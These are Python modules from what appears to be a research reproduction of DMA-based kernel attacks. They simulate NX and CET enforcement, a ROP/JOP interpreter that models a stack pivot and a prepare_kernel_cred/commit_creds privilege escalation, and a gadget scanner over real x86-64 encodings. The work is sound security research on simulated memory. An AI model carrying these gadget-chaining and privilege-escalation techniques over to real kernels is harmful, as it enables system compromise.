    "ShadowStack",
]
