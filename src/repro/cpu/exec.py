"""Callback invocation and ROP/JOP execution with NX enforcement.

This is where an attack succeeds or dies:

* **NX (W^X / DEP)**: only the image's text section is executable.
  Pointing a callback straight at shellcode in a DMA buffer raises
  :class:`NxViolation` -- "the NX-bit is effective in preventing simple
  code injection attacks" (section 2.4) -- which is why the paper's
  attacks pivot through ROP/JOP gadgets instead.
* **JOP pivot**: the hijacked callback receives a pointer to its
  containing struct in ``%rdi`` (the kernel's calling convention for
  ``ubuf_info`` callbacks); a ``lea rsp, [rdi+const]; ret`` gadget turns
  that into a stack pivot onto the attacker's poisoned stack (section 6).
* **ROP interpretation**: returns pop addresses off the poisoned stack
  (read from simulated memory through the direct map), dispatching
  semantically on kernel function symbols such as
  ``prepare_kernel_cred``/``commit_creds``.
* **CET**: optional IBT (indirect branches must land on ENDBR64 entries)
  and shadow stack (returns must match the call stack) -- the emerging
  mitigations of section 8.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.cpu.gadgets import Instruction, decode_one
from repro.cpu.shadowstack import ShadowStack
from repro.cpu.text import KernelImage
from repro.errors import (ControlFlowViolation, ExecutionFault, NxViolation,
                          TranslationFault)
from repro.kaslr.translate import AddressSpace
from repro.mem.phys import PhysicalMemory

#: Sentinel return address ending a callback invocation.
STOP_RIP = 0xFFFF_FFFF_FFFF_F000

#: Opaque token prepare_kernel_cred() "returns" in rax.
KERNEL_CRED_TOKEN = 0xFFFF_8880_0C0F_FEE0


@dataclass
class Credentials:
    """Task credentials; uid 0 after a successful privilege escalation."""

    uid: int = 1000

    @property
    def is_root(self) -> bool:
        return self.uid == 0


@dataclass
class MachineState:
    """Register file + credentials for one callback invocation."""

    regs: dict[str, int]
    creds: Credentials
    steps: int = 0
    trace: list[str] = field(default_factory=list)

    def log(self, message: str) -> None:
        self.trace.append(message)


@dataclass
class ExecutionResult:
    """Outcome of a callback invocation."""

    completed: bool
    escalated: bool
    functions_called: list[str]
    trace: list[str]


class Executor:
    """Executes kernel callbacks (and attacker ROP chains) over memory."""

    def __init__(self, phys: PhysicalMemory, addr_space: AddressSpace,
                 image: KernelImage, *, cet_ibt: bool = False,
                 cet_shadow_stack: bool = False,
                 max_steps: int = 512) -> None:
        self._phys = phys
        self._addr_space = addr_space
        self._image = image
        self._cet_ibt = cet_ibt
        self._cet_shadow_stack = cet_shadow_stack
        self._max_steps = max_steps
        self._creds = Credentials()
        #: Every function invoked via callbacks, for test assertions.
        self.call_log: list[str] = []

    @property
    def creds(self) -> Credentials:
        return self._creds

    @property
    def cet_enabled(self) -> bool:
        return self._cet_ibt or self._cet_shadow_stack

    # -- address helpers ------------------------------------------------------

    def _image_offset(self, kva: int) -> int:
        return kva - self._addr_space.text_base

    def is_executable(self, kva: int) -> bool:
        """NX check: only the text *section* of the image is executable."""
        off = self._image_offset(kva)
        return self._image.is_text_offset(off)

    def _read_u64(self, kva: int) -> int:
        """Data read during execution (stack pops) via the direct map."""
        try:
            paddr = self._addr_space.paddr_of_kva(kva)
        except TranslationFault as exc:
            raise ExecutionFault(
                f"stack read from untranslatable KVA {kva:#x}") from exc
        return self._phys.read_u64(paddr)

    # -- public entry ------------------------------------------------------------

    def invoke_callback(self, func_ptr: int, *, rdi: int = 0,
                        rsi: int = 0) -> ExecutionResult:
        """Indirect-call *func_ptr* the way the kernel calls a callback.

        Raises :class:`NxViolation` if the target is not executable and
        :class:`ControlFlowViolation` if CET rejects the branch or a
        return. Exceptions model kernel oopses; the caller (network
        stack / attack harness) decides how to surface them.
        """
        if not self.is_executable(func_ptr):
            raise NxViolation(
                f"callback target {func_ptr:#x} is not executable "
                f"(NX bit set)", address=func_ptr)
        off = self._image_offset(func_ptr)
        if self._cet_ibt and not self._image.is_function_entry(off):
            raise ControlFlowViolation(
                f"IBT: indirect call to non-ENDBR64 target {func_ptr:#x}")
        shadow = ShadowStack() if self._cet_shadow_stack else None
        if shadow is not None:
            # The indirect call that invoked the callback pushed the
            # STOP frame; seed the shadow stack to match.
            shadow.on_call(STOP_RIP)
        state = MachineState(
            regs={"rax": 0, "rdi": rdi, "rsi": rsi,
                  "rsp": 0, "rip": func_ptr},
            creds=self._creds)
        # A callback invocation gets a pristine kernel stack whose only
        # frame is the STOP sentinel; legitimate callbacks return to it.
        state.regs["rsp"] = self._kernel_stack_with_sentinel()
        functions: list[str] = []
        completed = self._run(state, shadow, functions)
        return ExecutionResult(
            completed=completed,
            escalated=self._creds.is_root,
            functions_called=functions,
            trace=state.trace)

    _SENTINEL_SLOT_KVA: int | None = None

    def _kernel_stack_with_sentinel(self) -> int:
        """A stack holding only STOP_RIP (lazily placed in low memory)."""
        if self._SENTINEL_SLOT_KVA is None:
            # Reserve 8 bytes inside the (always reserved) first page.
            paddr = 0xF00
            self._phys.write_u64(paddr, STOP_RIP)
            self._SENTINEL_SLOT_KVA = self._addr_space.kva_of_paddr(paddr)
        return self._SENTINEL_SLOT_KVA

    # -- interpreter ----------------------------------------------------------------

    def _run(self, state: MachineState, shadow: ShadowStack | None,
             functions: list[str]) -> bool:
        while state.steps < self._max_steps:
            state.steps += 1
            rip = state.regs["rip"]
            if rip == STOP_RIP:
                return True
            if not self.is_executable(rip):
                raise NxViolation(
                    f"instruction fetch from NX address {rip:#x}",
                    address=rip)
            off = self._image_offset(rip)
            fname = self._image.function_at_offset(off)
            if fname is not None:
                self._call_semantic(fname, state, functions)
                self._do_ret(state, shadow)
                continue
            insn = decode_one(self._image.text, off)
            if insn is None:
                raise ExecutionFault(
                    f"undecodable instruction at {rip:#x} "
                    f"(image offset {off:#x})")
            self._execute(insn, state, shadow)
        raise ExecutionFault(f"execution exceeded {self._max_steps} steps")

    def _call_semantic(self, fname: str, state: MachineState,
                       functions: list[str]) -> None:
        functions.append(fname)
        self.call_log.append(fname)
        state.log(f"call {fname}(rdi={state.regs['rdi']:#x})")
        if fname == "prepare_kernel_cred":
            # prepare_kernel_cred(NULL) yields root credentials.
            if state.regs["rdi"] == 0:
                state.regs["rax"] = KERNEL_CRED_TOKEN
        elif fname == "commit_creds":
            if state.regs["rdi"] == KERNEL_CRED_TOKEN:
                state.creds.uid = 0
                state.log("commit_creds: task credentials now uid=0")
        # All other kernel functions are benign no-ops that return.

    def _do_ret(self, state: MachineState,
                shadow: ShadowStack | None) -> None:
        target = self._read_u64(state.regs["rsp"])
        if shadow is not None:
            shadow.on_ret(target)
        state.regs["rsp"] += 8
        state.regs["rip"] = target
        state.log(f"ret -> {target:#x}")

    def _execute(self, insn: Instruction, state: MachineState,
                 shadow: ShadowStack | None) -> None:
        mnemonic = insn.mnemonic
        regs = state.regs
        if mnemonic == "ret":
            self._do_ret(state, shadow)
            return
        if mnemonic.startswith("pop "):
            reg = mnemonic.split()[1]
            regs[reg] = self._read_u64(regs["rsp"])
            regs["rsp"] += 8
            state.log(f"pop {reg} = {regs[reg]:#x}")
        elif mnemonic == "mov rdi, rax":
            regs["rdi"] = regs["rax"]
            state.log(f"mov rdi, rax ({regs['rax']:#x})")
        elif mnemonic == "xchg rsp, rax":
            regs["rsp"], regs["rax"] = regs["rax"], regs["rsp"]
            state.log("xchg rsp, rax")
        elif mnemonic == "lea rsp, [rdi+IMM]":
            regs["rsp"] = regs["rdi"] + (insn.imm or 0)
            state.log(f"lea rsp, [rdi+{insn.imm:#x}] -> rsp="
                      f"{regs['rsp']:#x} (JOP stack pivot)")
            regs["rip"] += insn.length
            # The pivot gadget's own ret happens next loop iteration.
            return
        elif mnemonic == "endbr64":
            pass
        elif mnemonic in ("call rax", "jmp rax"):
            target = regs["rax"]
            if not self.is_executable(target):
                raise NxViolation(
                    f"{mnemonic} to NX address {target:#x}", address=target)
            if self._cet_ibt and not self._image.is_function_entry(
                    self._image_offset(target)):
                raise ControlFlowViolation(
                    f"IBT: {mnemonic} to non-ENDBR64 target {target:#x}")
            if mnemonic == "call rax":
                regs["rsp"] -= 8
                # The simulated push is elided; shadow stack still records.
                if shadow is not None:
                    shadow.on_call(regs["rip"] + insn.length)
            regs["rip"] = target
            state.log(f"{mnemonic} -> {target:#x}")
            return
        else:
            raise ExecutionFault(f"unimplemented instruction {mnemonic}")
        regs["rip"] += insn.length
