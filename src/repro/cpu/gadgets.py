"""Gadget discovery over raw kernel text (the ROPgadget analogue).

"We located such a gadget using the ROPgadget tool" (section 6). Like
ROPgadget, the scanner walks the code bytes looking for ``ret`` (0xc3)
opcodes and decodes backwards from each, emitting every decodable
instruction suffix that ends in the return.
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.errors import ExecutionFault

#: Single-byte and multi-byte decoders: opcode prefix -> (mnemonic, length).
_SINGLE = {
    0x5F: ("pop rdi", 1),
    0x5E: ("pop rsi", 1),
    0x58: ("pop rax", 1),
    0x5C: ("pop rsp", 1),
    0xC3: ("ret", 1),
}


@dataclass(frozen=True)
class Instruction:
    mnemonic: str
    length: int
    imm: int | None = None

    def __str__(self) -> str:
        if self.imm is not None:
            return self.mnemonic.replace("IMM", hex(self.imm))
        return self.mnemonic


def decode_one(code: bytes, offset: int) -> Instruction | None:
    """Decode the instruction at *offset*, or None if undecodable."""
    if offset >= len(code):
        return None
    byte0 = code[offset]
    if byte0 in _SINGLE:
        mnemonic, length = _SINGLE[byte0]
        return Instruction(mnemonic, length)
    if byte0 == 0x48 and offset + 1 < len(code):
        byte1 = code[offset + 1]
        if byte1 == 0x89 and offset + 2 < len(code) \
                and code[offset + 2] == 0xC7:
            return Instruction("mov rdi, rax", 3)
        if byte1 == 0x94:
            return Instruction("xchg rsp, rax", 2)
        if byte1 == 0x8D and offset + 3 < len(code) \
                and code[offset + 2] == 0x67:
            return Instruction("lea rsp, [rdi+IMM]", 4, imm=code[offset + 3])
    if byte0 == 0xF3 and code[offset:offset + 4] == \
            bytes([0xF3, 0x0F, 0x1E, 0xFA]):
        return Instruction("endbr64", 4)
    if byte0 == 0xFF and offset + 1 < len(code):
        if code[offset + 1] == 0xD0:
            return Instruction("call rax", 2)
        if code[offset + 1] == 0xE0:
            return Instruction("jmp rax", 2)
    return None


@dataclass(frozen=True)
class Gadget:
    """A decodable instruction suffix ending in ``ret``."""

    image_offset: int
    instructions: tuple[Instruction, ...]

    @property
    def text(self) -> str:
        return "; ".join(str(insn) for insn in self.instructions)

    def __str__(self) -> str:
        return f"{self.image_offset:#x}: {self.text}"


class GadgetScanner:
    """Scans code bytes for ROP/JOP gadgets."""

    def __init__(self, code: bytes, *, max_gadget_bytes: int = 8) -> None:
        self._code = code
        self._max_bytes = max_gadget_bytes

    def scan(self) -> list[Gadget]:
        """All gadgets: every decodable suffix ending at each 0xc3."""
        gadgets: list[Gadget] = []
        code = self._code
        for ret_off in range(len(code)):
            if code[ret_off] != 0xC3:
                continue
            gadgets.extend(self._decode_back_from(ret_off))
        return gadgets

    def _decode_back_from(self, ret_off: int) -> list[Gadget]:
        found: list[Gadget] = []
        for start in range(max(0, ret_off - self._max_bytes), ret_off + 1):
            insns: list[Instruction] = []
            cursor = start
            while cursor <= ret_off:
                insn = decode_one(self._code, cursor)
                if insn is None:
                    break
                insns.append(insn)
                cursor += insn.length
            if cursor == ret_off + 1 and insns and \
                    insns[-1].mnemonic == "ret":
                found.append(Gadget(start, tuple(insns)))
        return found

    def find(self, pattern: str) -> list[Gadget]:
        """Gadgets whose text matches *pattern* with IMM as a wildcard.

        >>> scanner.find("lea rsp, [rdi+IMM]; ret")   # doctest: +SKIP
        """
        matches = []
        for gadget in self.scan():
            if _pattern_matches(pattern, gadget):
                matches.append(gadget)
        return matches

    def find_stack_pivot(self) -> Gadget:
        """The paper's JOP pivot: ``rsp = rdi + const; ret``."""
        pivots = self.find("lea rsp, [rdi+IMM]; ret")
        if not pivots:
            raise ExecutionFault("no rsp=rdi+const pivot gadget in text")
        return pivots[0]

    def find_pop(self, register: str) -> Gadget:
        pops = self.find(f"pop {register}; ret")
        if not pops:
            raise ExecutionFault(f"no 'pop {register}; ret' gadget in text")
        return pops[0]

    def find_mov_rdi_rax(self) -> Gadget:
        movs = self.find("mov rdi, rax; ret")
        if not movs:
            raise ExecutionFault("no 'mov rdi, rax; ret' gadget in text")
        return movs[0]


def _pattern_matches(pattern: str, gadget: Gadget) -> bool:
    want = [part.strip() for part in pattern.split(";")]
    have = [insn.mnemonic for insn in gadget.instructions]
    return want == have
