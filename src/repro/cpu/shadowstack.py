"""Intel CET shadow stack model (section 8).

"Processors that support CET use two stacks simultaneously ... During
each RET command, the shadow stack address is checked, and the code
continues running only if the stacks agree on the address." A ROP chain
necessarily returns to addresses the shadow stack never saw, so the
first poisoned return trips :class:`ControlFlowViolation`.
"""

from __future__ import annotations

from repro.errors import ControlFlowViolation


class ShadowStack:
    """Hardware-maintained stack of legitimate return addresses."""

    def __init__(self) -> None:
        self._stack: list[int] = []
        self.violations = 0

    def on_call(self, return_address: int) -> None:
        self._stack.append(return_address)

    def on_ret(self, return_address: int) -> None:
        """Validate a return; raises on mismatch (the CET #CP fault)."""
        if not self._stack or self._stack[-1] != return_address:
            self.violations += 1
            expected = self._stack[-1] if self._stack else None
            raise ControlFlowViolation(
                f"shadow stack mismatch: ret to {return_address:#x}, "
                f"shadow has "
                f"{'empty' if expected is None else hex(expected)}")
        self._stack.pop()

    @property
    def depth(self) -> int:
        return len(self._stack)
