"""The synthetic kernel image: text bytes, data section, symbol table.

Substitutes for a compiled vmlinux. The text section is filled with
deterministic pseudo-random bytes (standing in for compiled code) into
which real byte-encoded gadget sequences are embedded, so the gadget
scanner performs genuine byte-pattern discovery, exactly like the
ROPgadget tool the paper used (section 6).

Section layout within the image (offsets are image-relative; the image
is mapped at the KASLR-randomized text base):

* ``[0, text_size)`` -- executable code (NX clear)
* ``[text_size, image_size)`` -- data (NX set): contains ``init_net``,
  the symbol whose leak compromises KASLR (section 2.4).
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.errors import BadAddressError
from repro.sim.rng import DeterministicRng

DEFAULT_TEXT_SIZE = 8 << 20    # 8 MiB of code
DEFAULT_DATA_SIZE = 2 << 20    # 2 MiB of data

#: Byte encodings of the instruction sequences the executor understands.
#: These mirror real x86-64 encodings so the scanner behaves like
#: ROPgadget scanning a real binary.
ENCODINGS: dict[str, bytes] = {
    "ret": bytes([0xC3]),
    "pop rdi; ret": bytes([0x5F, 0xC3]),
    "pop rsi; ret": bytes([0x5E, 0xC3]),
    "pop rax; ret": bytes([0x58, 0xC3]),
    "pop rsp; ret": bytes([0x5C, 0xC3]),
    "mov rdi, rax; ret": bytes([0x48, 0x89, 0xC7, 0xC3]),
    "xchg rsp, rax; ret": bytes([0x48, 0x94, 0xC3]),
}


def lea_rsp_rdi_ret(const: int) -> bytes:
    """``lea rsp, [rdi+const]; ret`` -- the paper's JOP pivot gadget.

    "To complete the attack, we needed a JOP gadget that performs
    %rsp = %rdi + const" (section 6).
    """
    if not 0 <= const < 0x80:
        raise ValueError(f"imm8 displacement out of range: {const}")
    return bytes([0x48, 0x8D, 0x67, const, 0xC3])


@dataclass(frozen=True)
class Symbol:
    """One kernel symbol: image-relative offset plus section."""

    name: str
    image_offset: int
    section: str  # "text" or "data"
    size: int = 8


#: Semantic kernel functions the ROP interpreter dispatches on.
KERNEL_FUNCTIONS = (
    "prepare_kernel_cred",
    "commit_creds",
    "native_write_cr4",
    "kfree_skb",
    "sock_def_write_space",
    "tcp_write_space",
    "nvme_fc_fcpio_done",
    "mlx5e_completion_event",
)

#: Data symbols. ``init_net`` is the KASLR-compromising leak target.
KERNEL_DATA_SYMBOLS = ("init_net", "jiffies", "system_state")


class KernelImage:
    """One build's kernel image (bytes + symbols + gadget ground truth)."""

    def __init__(self, rng: DeterministicRng, *,
                 text_size: int = DEFAULT_TEXT_SIZE,
                 data_size: int = DEFAULT_DATA_SIZE) -> None:
        self.text_size = text_size
        self.data_size = data_size
        build_rng = rng.child("kernel-image")
        text = bytearray(build_rng.randbytes(text_size))
        self._symbols: dict[str, Symbol] = {}
        self._functions_by_offset: dict[int, str] = {}
        self._planted_gadgets: list[tuple[int, str]] = []
        self._plant_functions(build_rng, text)
        self._plant_gadgets(build_rng, text)
        self.text = bytes(text)
        self._plant_data_symbols(build_rng)

    # -- construction ---------------------------------------------------------

    def _plant_functions(self, rng: DeterministicRng,
                         text: bytearray) -> None:
        """Give each semantic kernel function an aligned entry point."""
        used: set[int] = set()
        for name in KERNEL_FUNCTIONS:
            while True:
                offset = rng.randrange(0, self.text_size - 64, 16)
                if offset not in used:
                    used.add(offset)
                    break
            # ENDBR64 marks a legitimate indirect-branch target (CET IBT).
            text[offset:offset + 4] = bytes([0xF3, 0x0F, 0x1E, 0xFA])
            self._symbols[name] = Symbol(name, offset, "text", size=64)
            self._functions_by_offset[offset] = name

    def _plant_gadgets(self, rng: DeterministicRng,
                       text: bytearray) -> None:
        """Embed gadget byte sequences at scattered text offsets."""
        sequences = list(ENCODINGS.items())
        sequences.append(("lea rsp, [rdi+0x10]; ret", lea_rsp_rdi_ret(0x10)))
        reserved = {sym.image_offset for sym in self._symbols.values()}
        for name, encoding in sequences:
            for _copy in range(4):
                while True:
                    offset = rng.randrange(64, self.text_size - 16)
                    if not any(abs(offset - r) < 80 for r in reserved):
                        break
                text[offset:offset + len(encoding)] = encoding
                reserved.add(offset)
                self._planted_gadgets.append((offset, name))

    def _plant_data_symbols(self, rng: DeterministicRng) -> None:
        for name in KERNEL_DATA_SYMBOLS:
            offset = self.text_size + rng.randrange(
                0, self.data_size - 4096, 64)
            self._symbols[name] = Symbol(name, offset, "data", size=4096)

    # -- queries ----------------------------------------------------------------

    @property
    def image_size(self) -> int:
        return self.text_size + self.data_size

    def symbol(self, name: str) -> Symbol:
        try:
            return self._symbols[name]
        except KeyError:
            raise BadAddressError(f"unknown kernel symbol {name!r}") from None

    def symbols(self) -> dict[str, Symbol]:
        return dict(self._symbols)

    def function_at_offset(self, image_offset: int) -> str | None:
        """Name of the semantic function whose entry is at *image_offset*."""
        return self._functions_by_offset.get(image_offset)

    def is_text_offset(self, image_offset: int) -> bool:
        return 0 <= image_offset < self.text_size

    def is_function_entry(self, image_offset: int) -> bool:
        """Whether *image_offset* is a legitimate indirect-branch target.

        CET IBT allows indirect calls/jumps only to ENDBR64-marked entry
        points (section 8).
        """
        return image_offset in self._functions_by_offset

    def planted_gadgets(self) -> list[tuple[int, str]]:
        """Ground truth for validating the gadget scanner."""
        return list(self._planted_gadgets)
