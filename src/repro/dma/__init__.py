"""The DMA API (section 2.3): map/unmap buffers for device access."""

from repro.dma.api import DmaApi, ScatterGatherEntry
from repro.dma.tracking import DmaMapping, MappingRegistry

__all__ = ["DmaApi", "ScatterGatherEntry", "DmaMapping", "MappingRegistry"]
