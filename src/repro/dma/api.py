"""The DMA API a driver uses (section 2.3).

``dma_map_single`` takes a KVA and length, maps *every page the buffer
touches* into the device's IOVA space, and returns an IOVA whose low
bits preserve the in-page offset. That page granularity -- the API
"insinuates that only the mapped bytes are exposed, when, in fact, the
whole page is accessible" (section 9.1) -- is the sub-page vulnerability
in API form, and is reproduced exactly.
"""

from __future__ import annotations

from dataclasses import dataclass

from repro import faults, trace
from repro.dma.tracking import MappingRegistry
from repro.errors import DmaApiError
from repro.iommu.iommu import Iommu
from repro.iommu.perms import DmaPerm
from repro.kaslr.translate import AddressSpace
from repro.mem.accounting import NULL_SINK, AllocSite, MemEventSink
from repro.mem.phys import PAGE_SHIFT, PAGE_SIZE
from repro.sim.clock import SimClock

VALID_DIRECTIONS = ("DMA_TO_DEVICE", "DMA_FROM_DEVICE", "DMA_BIDIRECTIONAL")


@dataclass(frozen=True)
class ScatterGatherEntry:
    """One element of a mapped scatter/gather list."""

    iova: int
    size: int


class DmaApi:
    """``dma_map_*`` / ``dma_unmap_*`` over the IOMMU."""

    def __init__(self, iommu: Iommu, addr_space: AddressSpace,
                 clock: SimClock, *, sink: MemEventSink = NULL_SINK) -> None:
        self._iommu = iommu
        self._addr_space = addr_space
        self._clock = clock
        self._sink = sink
        self.registry = MappingRegistry()

    def _check_direction(self, direction: str) -> DmaPerm:
        if direction not in VALID_DIRECTIONS:
            raise DmaApiError(f"bad DMA direction {direction!r}")
        return DmaPerm.from_dma_direction(direction)

    # -- single mappings -----------------------------------------------------

    def dma_map_single(self, device: str, kva: int, size: int,
                       direction: str, *,
                       site: AllocSite | None = None) -> int:
        """Map [kva, kva+size) for *device*; returns the buffer's IOVA.

        The device is granted access to every byte of every page the
        buffer overlaps -- not just the buffer itself.
        """
        if size <= 0:
            raise DmaApiError(f"dma_map_single of size {size}")
        if "dma.map" in faults.active_sites and faults.fires("dma.map"):
            raise faults.InjectedDmaMapError("dma.map")
        perm = self._check_direction(direction)
        site = site or AllocSite("dma_map_single")
        paddr = self._addr_space.paddr_of_kva(kva)
        first_pfn = paddr >> PAGE_SHIFT
        last_pfn = (paddr + size - 1) >> PAGE_SHIFT
        nr_pages = last_pfn - first_pfn + 1
        domain = self._iommu.attach_device(device)
        iova_base = domain.iova_allocator.alloc(nr_pages)
        for i in range(nr_pages):
            self._iommu.map_page(device, (iova_base >> PAGE_SHIFT) + i,
                                 first_pfn + i, perm)
        iova = iova_base | (paddr & (PAGE_SIZE - 1))
        self.registry.add(
            device=device, iova=iova, kva=kva, paddr=paddr, size=size,
            direction=direction, perm=perm, site=site,
            mapped_at_us=self._clock.now_us, first_pfn=first_pfn,
            nr_pages=nr_pages)
        if trace.enabled("dma"):
            trace.emit("dma", "map", device=device, iova=iova, kva=kva,
                       size=size, perm=perm.value, direction=direction,
                       nr_pages=nr_pages, site=str(site))
            trace.count("dma", "maps")
        self._sink.on_dma_map(paddr, size, perm.value, device, site)
        return iova

    def dma_unmap_single(self, device: str, iova: int, size: int,
                         direction: str) -> None:
        """Remove the mapping created by :meth:`dma_map_single`.

        The page-table entries are removed immediately; whether the
        device actually loses access now depends on the IOMMU's
        invalidation policy (strict vs deferred) and on other live
        mappings of the same frames (type (c)).
        """
        self._check_direction(direction)
        mapping = self.registry.lookup(device, iova)
        if mapping is None:
            raise DmaApiError(f"dma_unmap_single of unknown IOVA {iova:#x}")
        if mapping.size != size or mapping.direction != direction:
            raise DmaApiError(
                f"dma_unmap_single mismatch: mapped (size={mapping.size}, "
                f"{mapping.direction}), unmapped (size={size}, {direction})")
        self.registry.remove(device, iova, now_us=self._clock.now_us)
        if trace.enabled("dma"):
            trace.emit("dma", "unmap", device=device, iova=iova,
                       kva=mapping.kva, size=size, perm=mapping.perm.value,
                       direction=direction, nr_pages=mapping.nr_pages)
            trace.count("dma", "unmaps")
            trace.observe("dma", "mapping_lifetime_us",
                          self._clock.now_us - mapping.mapped_at_us)
        iova_base = iova & ~(PAGE_SIZE - 1)
        for i in range(mapping.nr_pages):
            self._iommu.unmap_page(device, (iova_base >> PAGE_SHIFT) + i)
        # The IOVA range is reusable only once the invalidation is
        # visible to hardware (immediately in strict mode, at the next
        # periodic flush in deferred mode -- the Linux flush queue).
        allocator = self._iommu.domain_of(device).iova_allocator
        self._iommu.policy.queue_post_flush(
            lambda: allocator.free(iova_base))
        self._sink.on_dma_unmap(mapping.paddr, mapping.size, device)

    # -- page mappings --------------------------------------------------------

    def dma_map_page(self, device: str, pfn: int, offset: int, size: int,
                     direction: str, *,
                     site: AllocSite | None = None) -> int:
        """Map part of a page frame, as drivers do for frag buffers."""
        kva = self._addr_space.kva_of_pfn(pfn, offset)
        return self.dma_map_single(device, kva, size, direction,
                                   site=site or AllocSite("dma_map_page"))

    def dma_unmap_page(self, device: str, iova: int, size: int,
                       direction: str) -> None:
        self.dma_unmap_single(device, iova, size, direction)

    # -- scatter/gather --------------------------------------------------------

    def dma_map_sg(self, device: str, buffers: list[tuple[int, int]],
                   direction: str, *,
                   site: AllocSite | None = None) -> list[ScatterGatherEntry]:
        """Map a scatter/gather list of (kva, size) buffers."""
        site = site or AllocSite("dma_map_sg")
        entries = [
            ScatterGatherEntry(
                self.dma_map_single(device, kva, size, direction, site=site),
                size)
            for kva, size in buffers
        ]
        return entries

    def dma_unmap_sg(self, device: str, entries: list[ScatterGatherEntry],
                     direction: str) -> None:
        for entry in entries:
            self.dma_unmap_single(device, entry.iova, entry.size, direction)
