"""Registry of live DMA mappings.

This is kernel-side ground truth, used by D-KASAN (to attribute
map-after-alloc / alloc-after-map events) and by the window-analysis
experiments. Attack code never reads it -- attackers only see what their
device can read via DMA.
"""

from __future__ import annotations

import itertools
from collections import defaultdict
from dataclasses import dataclass

from repro.errors import DmaApiError
from repro.iommu.perms import DmaPerm
from repro.mem.accounting import AllocSite


@dataclass
class DmaMapping:
    """One live (or historical) DMA mapping."""

    mapping_id: int
    device: str
    iova: int
    kva: int
    paddr: int
    size: int
    direction: str
    perm: DmaPerm
    site: AllocSite
    mapped_at_us: float
    first_pfn: int
    nr_pages: int
    active: bool = True
    unmapped_at_us: float | None = None

    @property
    def pfns(self) -> range:
        return range(self.first_pfn, self.first_pfn + self.nr_pages)


class MappingRegistry:
    """Indexes live mappings by IOVA and by PFN."""

    def __init__(self) -> None:
        self._ids = itertools.count(1)
        self._by_key: dict[tuple[str, int], DmaMapping] = {}
        self._by_pfn: dict[int, list[DmaMapping]] = defaultdict(list)
        self.history: list[DmaMapping] = []
        # cumulative totals (history is bounded by nothing, but these
        # stay correct even if callers ever prune it)
        self.nr_added = 0
        self.nr_removed = 0

    def add(self, **kwargs) -> DmaMapping:
        mapping = DmaMapping(mapping_id=next(self._ids), **kwargs)
        key = (mapping.device, mapping.iova)
        if key in self._by_key:
            raise DmaApiError(
                f"duplicate mapping for {mapping.device} IOVA "
                f"{mapping.iova:#x}")
        self._by_key[key] = mapping
        for pfn in mapping.pfns:
            self._by_pfn[pfn].append(mapping)
        self.history.append(mapping)
        self.nr_added += 1
        return mapping

    def remove(self, device: str, iova: int, *,
               now_us: float) -> DmaMapping:
        mapping = self._by_key.pop((device, iova), None)
        if mapping is None:
            raise DmaApiError(
                f"unmap of unknown mapping: {device} IOVA {iova:#x}")
        mapping.active = False
        mapping.unmapped_at_us = now_us
        for pfn in mapping.pfns:
            self._by_pfn[pfn].remove(mapping)
            if not self._by_pfn[pfn]:
                del self._by_pfn[pfn]
        self.nr_removed += 1
        return mapping

    def lookup(self, device: str, iova: int) -> DmaMapping | None:
        return self._by_key.get((device, iova))

    def mappings_on_pfn(self, pfn: int) -> list[DmaMapping]:
        """Live mappings covering frame *pfn* (multiple => type (c))."""
        return list(self._by_pfn.get(pfn, ()))

    def live_mappings(self) -> list[DmaMapping]:
        return list(self._by_key.values())

    @property
    def nr_live(self) -> int:
        return len(self._by_key)
