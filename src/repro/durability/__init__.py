"""repro.durability -- one crash-consistent persistence layer.

Every artifact this reproduction values -- campaign results JSONL, the
per-backend CoverageMap, the mmap'd corpus snapshot, shard claims,
heartbeats, perfcache entries, BENCH reports and history -- used to be
written by nine modules each hand-rolling its own ``tempfile`` +
``os.replace`` recipe, with no fsync discipline, no tmp-file cleanup,
and no proof that recovery works. This package centralizes all of it:

:func:`atomic_write_bytes` / :func:`atomic_write_text` /
:func:`atomic_write_json`
    write-to-tmp + ``os.replace`` with a configurable durability mode
    (``REPRO_DURABILITY=off|atomic|fsync``): ``off`` writes the target
    in place (fast, torn-write-prone -- for benchmarks only),
    ``atomic`` (the default) guarantees readers never observe a torn
    file, ``fsync`` additionally fsyncs the tmp file *and* its parent
    directory so the rename survives power loss, the full
    write-fsync-rename-fsync-dir discipline journaling filesystems
    expect.

:class:`JournaledAppender`
    append-only JSONL streams with a newline guard (a torn tail never
    swallows the next record), an optional per-line CRC32 checksum
    (``"_crc"``, stripped on replay -- findings digests never see it),
    and torn-tail healing on :meth:`~JournaledAppender.replay` that
    generalizes what ``trace.export.load_jsonl`` and the campaign
    resume path each did separately.

:func:`collect_stale_tmp`
    garbage-collects ``.durability-*.tmp`` residue a killed writer
    left behind (every atomic write and crash simulation funnels
    through the same naming scheme, so GC can never eat a foreign
    file).

**Crash points.** Every write advances deterministic per-site
counters at the ``durability.*`` fault sites (``post_write``,
``pre_replace``, ``post_replace``, ``mid_append``, ``post_append``).
Two arming mechanisms share those counters:

* a normal :mod:`repro.faults` plan whose rule names a durability
  site -- ``action="raise"`` throws
  :class:`~repro.faults.InjectedDurabilityCrash` (an OSError, so
  existing I/O recovery absorbs it), ``action="kill"`` hard-exits;
* ``REPRO_CRASH=<site>@<N>`` hard-kills the process (``os._exit``,
  exit status 137 -- indistinguishable from SIGKILL to the parent) at
  the N-th poke of *site*, which is how the ``repro-dma crashtest``
  harness (:mod:`repro.durability.crashtest`) murders a campaign
  subprocess at every reachable write and proves ``--resume``
  recovers byte-identically. ``REPRO_CRASH_CENSUS=<path>`` makes an
  un-killed run write its per-site poke counts at exit, which is how
  the harness enumerates the reachable crash points first.

``mid_append`` is special: when armed, the appender writes *half* the
encoded line, flushes, and only then pokes -- a firing leaves a
genuinely torn line on disk, the exact residue the healing paths must
survive.

Observability: a ``durability`` metrics subsystem (writes, fsyncs,
appends, recoveries, torn_tails_healed, tmp_files_collected) and
``durability``-category trace events on every recovery action. Trace
events fire only on *recovery*, never on routine writes, so they can
never leak into a seed's digest-relevant ``trace_tail``.
"""

from __future__ import annotations

import atexit
import json
import os
import tempfile
import time
import warnings
import zlib

from repro import faults

__all__ = [
    "DEFAULT_MODE", "DEFAULT_TMP_MAX_AGE_S", "MODES", "TMP_PREFIX",
    "TMP_SUFFIX", "JournaledAppender", "append_jsonl",
    "atomic_write_bytes", "atomic_write_json", "atomic_write_text",
    "collect_stale_tmp", "crash_counts", "disarm_crash_points",
    "mode", "parse_crash_env", "replay_jsonl", "seal_record",
    "truncate_file", "validate_record",
]

MODES = ("off", "atomic", "fsync")

DEFAULT_MODE = "atomic"

